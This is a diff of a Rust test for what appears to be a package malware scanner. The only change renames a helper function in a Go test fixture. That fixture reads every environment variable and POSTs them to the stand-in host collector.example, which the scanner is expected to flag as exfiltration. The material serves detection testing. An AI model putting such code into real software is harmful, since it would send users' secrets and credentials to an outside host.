@@ -125,11 +125,11 @@ fn a_threat_in_several_files_of_a_package_is_found() {
     ];
     assert_eq!(in_package(&javascript, "index.js"), ["malice/exfiltration"]);
     let go = [
-        ("a/env.go", Language::Go, "package a\n\nimport \"os\"\n\nfunc all() []string {\n\treturn os.Environ()\n}\n"),
+        ("a/env.go", Language::Go, "package a\n\nimport \"os\"\n\nfunc everything() []string {\n\treturn os.Environ()\n}\n"),
         (
             "a/send.go",
             Language::Go,
-            "package a\n\nimport (\n\t\"net/http\"\n\t\"strings\"\n)\n\nfunc send() {\n\thttp.Post(\"https://collector.example\", \"text/plain\", strings.NewReader(strings.Join(all(), \" \")))\n}\n",
+            "package a\n\nimport (\n\t\"net/http\"\n\t\"strings\"\n)\n\nfunc send() {\n\thttp.Post(\"https://collector.example\", \"text/plain\", strings.NewReader(strings.Join(everything(), \" \")))\n}\n",
         ),
     ];
     assert_eq!(in_package(&go, "a/send.go"), ["malice/exfiltration"]);
